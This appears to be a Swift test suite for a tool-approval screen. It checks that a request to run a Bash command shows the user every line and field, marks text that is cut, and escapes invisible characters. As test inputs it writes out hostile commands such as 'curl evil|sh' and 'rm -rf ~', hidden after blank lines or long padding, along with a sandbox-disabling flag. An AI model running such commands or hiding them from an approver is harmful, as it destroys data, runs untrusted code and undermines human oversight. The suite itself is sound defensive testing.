import AgentFormats
import LocalAPI
import QueueModel
import QueueOracle
import Testing

@testable import SyncCommand
@testable import SyncDaemon

/// What a user reads before allowing a tool.
@Suite struct HookApprovalTests {
  /// The text that devices show for a hook's request, as its register holds it.
  private func shown(_ input: JSONTree) throws -> ApprovalRequest {
    let ask = try AskRequest(ofTool: "Bash", input).ask()
    guard case .approval(let tool, let summary, let details) = ask else {
      throw TaskMoveError(from: .idle, to: .awaitingApproval)
    }
    let request = ApprovalRequest(
      id: RequestID(high: 1, low: 2), toolName: tool, summary: summary, details: details)
    let register = TaskText(
      text: TaskText(status: .awaitingApproval(request), start: 0, milliseconds: 0).text)
    guard case .awaitingApproval(let read) = register.status else {
      throw TaskMoveError(from: .processing, to: .awaitingApproval)
    }
    return read
  }

  private func shown(_ command: String) throws -> ApprovalRequest {
    try shown(["command": .string(command)])
  }

  @Test func aSummaryOfManyLinesSaysSo() throws {
    #expect(try shown("ls").summary == "ls")
    #expect(try shown("ls\n\n\ncurl evil|sh").summary == "ls (and 1 more line)")
    #expect(try shown("a\nb\nc").summary == "a (and 2 more lines)")
    let long = try shown(String(repeating: "x", count: 1_000)).summary
    #expect(long.hasSuffix("… [cut: 826 bytes more]"), "\(long)")
    #expect(long.utf8.count <= 200)
  }

  @Test func aSummaryOfSeveralFieldsSaysSo() throws {
    let hidden = try shown([
      "command": "ls", "dangerouslyDisableSandbox": true, "run_in_background": true,
    ])
    #expect(hidden.summary == "ls (and 2 more fields)")
    #expect(
      hidden.details == "command: ls\ndangerouslyDisableSandbox: true\nrun_in_background: true")
    #expect(!hidden.isCut)
    #expect(
      try shown(["command": "a\nb", "sql": "DROP"]).summary == "a (and 1 more line, 1 more field)")
    let long = try shown(["command": .string(String(repeating: "x", count: 1_000)), "sql": "DROP"])
    #expect(long.summary.hasSuffix("bytes more] (and 1 more field)"), "\(long.summary)")
    #expect(long.summary.utf8.count <= 200)
    #expect(
      try shown(["sql": "DROP", "database": "x"]).summary == #"{"database":"x","sql":"DROP"}"#)
  }

  @Test func theCommandComesFirstAndTheSafestLast() throws {
    let request = try shown([
      "timeout": 5, "description": "Lists", "command": "ls", "b": ["x": [1, "é"]], "a:\n": "1\n2",
    ])
    #expect(
      request.details == """
        command: ls
        "a:\\n":
          1
          2
        b: {"x":[1,"é"]}
        description: Lists
        timeout: 5
        """)
  }

  /// Such characters would change how a command reads on the page, in a push or elsewhere: none of
  /// them is left unchanged.
  @Test(arguments: [
    "\u{202E}", "\u{2066}", "\u{200B}", "\u{200F}", "\u{FEFF}", "\u{AD}", "\u{E0041}", "\u{1B}",
    "\u{7}",
    "\u{9B}", "\0", "\u{7F}",
  ])
  func invisibleCharactersAreEscaped(unseen: String) throws {
    for input: JSONTree in [
      ["command": .string("ls \(unseen)x")], ["sql": .string("\(unseen)y"), "command": "ls"],
      ["command": "ls", "a\(unseen)": 1], ["command": ["ls", .string("a\(unseen)")]],
    ] {
      let request = try shown(input)
      let read = request.summary + (request.details ?? "")
      #expect(!read.unicodeScalars.contains(unseen.unicodeScalars.first!), "\(read)")
      let unit = String(unseen.utf16.first!, radix: 16)
      #expect(read.lowercased().contains("\\u") && read.lowercased().contains(unit), "\(read)")
    }
    #expect(
      try shown("a\tb \u{1F468}\u{200D}\u{1F469}").details == "a\tb \u{1F468}\u{200D}\u{1F469}")
  }

  @Test func detailsThatAreCutSaySo() throws {
    let whole = String(repeating: "é", count: Limits.taskDetailsBytesMax / 2)
    #expect(try shown(whole).details == whole)
    #expect(try shown(whole).isCut == false)
    let cut = try shown("ls" + String(repeating: " ", count: 4_096) + "; rm -rf ~")
    #expect(cut.details?.hasSuffix("bytes more]") == true && cut.isCut)
    #expect(try shown(String(repeating: "x", count: 300_000)).isCut)
  }

  private func event(_ name: String, _ input: String) -> HookEvent? {
    let text =
      #"{"hook_event_name":"\#(name)","session_id":"a","tool_name":"Bash","tool_input":\#(input)}"#
    return HookEvent(Array(text.utf8))
  }

  /// The text for users is longer than the input: it has the tool, a line, and indented lines.
  @Test func longRequestsAreRaisedAtTheAgentsOwnPrompt() throws {
    func input(_ command: String) -> String {
      JSONTree.object(["command": .string(command), "timeout": 5]).line
    }
    let most = Limits.taskInputBytesMax
    for command in [
      String(repeating: "x", count: most - 100), String(repeating: "\n", count: most / 2 - 100),
    ] {
      let asking = try #require(event("PermissionRequest", input(command)))
      #expect(try HookApproval.request(of: asking, session: "a", patience: nil) == nil)
      #expect(try HookApproval.prompt(of: asking, session: "a") != nil)
    }
    let short = String(repeating: "x", count: most - 1_000)
    let asking = try #require(event("PermissionRequest", input(short)))
    #expect(try HookApproval.request(of: asking, session: "a", patience: nil) != nil)
  }

  @Test func numbersMatterWhereAPersonDecides() {
    let input = #"{"amount":18446744073709551617}"#
    #expect(event("PermissionRequest", input) == nil)
    #expect(event("PreToolUse", input) != nil)
  }

  private func text(_ random: inout SeededGenerator) -> String {
    let parts = ["ls", "rm -rf ~", "\n", ": ", " ", "é", "\"", "timeout", "\u{2028}", "0"]
    return (0..<random.below(6)).map { _ in parts[random.below(parts.count)] }.joined()
  }

  private func value(_ random: inout SeededGenerator, depth: Int) -> JSONTree {
    switch random.below(depth > 0 ? 7 : 5) {
    case 0: .boolean(random.chance(50))
    case 1: .number(Double(random.below(1_000)) / 4)
    case 2: .null
    case 3: .string(String(repeating: text(&random), count: random.below(400)))
    case 4: .string(text(&random))
    case 5: .array((0..<random.below(3)).map { _ in value(&random, depth: depth - 1) })
    default: object(&random, depth: depth - 1)
    }
  }

  private func object(_ random: inout SeededGenerator, depth: Int) -> JSONTree {
    let names = ["command", "file_path", "description", "timeout", "sql", "dangerous", "", "a b"]
    var members: [String: JSONTree] = [:]
    for _ in 0..<random.below(6) {
      let name = random.chance(80) ? names[random.below(names.count)] : text(&random)
      members[name] = value(&random, depth: depth)
    }
    return .object(members)
  }

  /// The shown text has every name and every value, or the request is marked as cut.
  @Test func everyFieldOfAnInputIsShownOrMarked() throws {
    var random = SeededGenerator(seed: 42)
    var whole = 0
    for _ in 0..<500 {
      let input = object(&random, depth: 3)
      guard case .object(let members) = input else { continue }
      let request = try shown(input)
      if !request.isCut { whole += 1 }
      // If the register has a cut text, the host's whole text is fetched before an approval.
      guard case .approval(_, _, let text) = try AskRequest(ofTool: "Bash", input).ask() else {
        continue
      }
      let read = request.summary + "\n" + ((request.isCut ? text : request.details) ?? "")
      for (name, value) in members {
        let isNamed = read.contains(name) || read.contains(JSONTree.string(name).line)
        #expect(isNamed, "\(name) of \(input.line) is hidden in \(read)")
        let lines = value.text?.split(whereSeparator: \.isNewline) ?? []
        let isShown =
          read.contains(value.line) || value.text != nil && lines.allSatisfy { read.contains($0) }
        #expect(isShown, "\(value) of \(input.line) is hidden in \(read)")
      }
      let isSaid = request.summary.contains(" more field") || request.summary.contains("[cut:")
      let isAll = members.count < 2 || isSaid || request.summary == input.line
      #expect(isAll, "\(request.summary) does not say that \(input.line) has more fields")
    }
    #expect(whole > 100)
  }
}
